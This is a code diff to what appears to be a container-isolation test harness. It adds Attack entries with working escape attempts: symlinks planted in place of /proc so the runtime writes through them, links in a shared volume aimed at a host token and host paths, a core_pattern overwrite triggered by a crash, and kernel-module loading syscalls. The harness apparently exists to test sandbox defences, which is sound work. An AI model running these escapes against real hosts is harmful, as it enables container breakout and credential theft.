@@ -16,7 +16,8 @@ from bufferzone.record import Record
 class Attack(Record):
     """`source`: where it is known from. `code` follows `PRELUDE`. `entered`: `exec` of this program goes in
     once it has printed something. `again`: a second container is started after it, with a mount of its own at
-    this place. `masked`: it begins with this link in place of /dev/null, and /proc/timer_list masked.
+    this place. `linked`: a second one is started after it, whose /proc is this link, with a sysctl to be set.
+    `masked`: it begins with this link in place of /dev/null, and /proc/timer_list masked.
     """
 
     name: str
@@ -24,6 +25,7 @@ class Attack(Record):
     code: str
     entered: str = ""
     again: str = ""
+    linked: str = ""
     masked: str = ""
 
 
@@ -236,14 +238,15 @@ time.sleep(3)
 import glob
 for path in glob.glob("/usr/lib/modules/*/kernel/**/dummy.ko*", recursive=True)[:4]:
     fd = os.open(path, os.O_RDONLY)
-    say(path, libc.syscall(313, fd, b"", 4), os.strerror(ctypes.get_errno()))
+    compressed = 0 if path.endswith(".ko") else 4
+    say(path, libc.syscall(313, fd, b"", compressed), os.strerror(ctypes.get_errno()))
 junk = b"\x7fELF" + bytes(4096)
 say("init_module", libc.syscall(175, junk, len(junk), b""), os.strerror(ctypes.get_errno()))
 """,
     ),
     Attack(
         name="mask-link",
-        source="CVE-2025-31133, -52565, -52881: a link in place of /dev/null while paths are masked",
+        source="CVE-2025-31133: a link in place of /dev/null while paths are masked",
         masked="/proc/sys/kernel/core_pattern",
         code=r"""
 script = payload("mask-link")
@@ -251,6 +254,31 @@ for path in ("/proc/timer_list", "/proc/sys/kernel/core_pattern"):
     attempt(write, path, "|" + script)
 child(lambda: os.kill(os.getpid(), signal.SIGSEGV))
 time.sleep(1)
+""",
+    ),
+    Attack(
+        name="proc-link",
+        source="CVE-2019-19921, CVE-2025-52881: a link in place of /proc, which the runtime writes through",
+        linked="/shared/fake",
+        code=r"""
+for name in ("sys/net/ipv4/ip_forward", "self/attr/exec", "self/attr/apparmor/exec", "thread-self/attr/exec"):
+    path = "/shared/fake/" + name
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    os.symlink(arg["host"] + "/OWNED-proc-link", path)
+""",
+    ),
+    Attack(
+        name="planted-links",
+        source="links in a shared volume, in place of what somebody on the host reads or writes there",
+        code=r"""
+for name, target in (("log", arg["token"]), ("data", arg["host"]), ("out", arg["host"] + "/OWNED-planted")):
+    attempt(os.symlink, target, "/shared/planted-" + name)
+    attempt(os.rename, "/shared/planted-" + name, "/shared/" + name)
+attempt(os.link, arg["token"], "/shared/hard")
+for name in ("log", "data/token", "hard"):
+    attempt(read, "/shared/" + name)
+attempt(write, "/shared/out", "x")
+attempt(write, "/shared/data/OWNED-planted", "x")
 """,
     ),
     Attack(
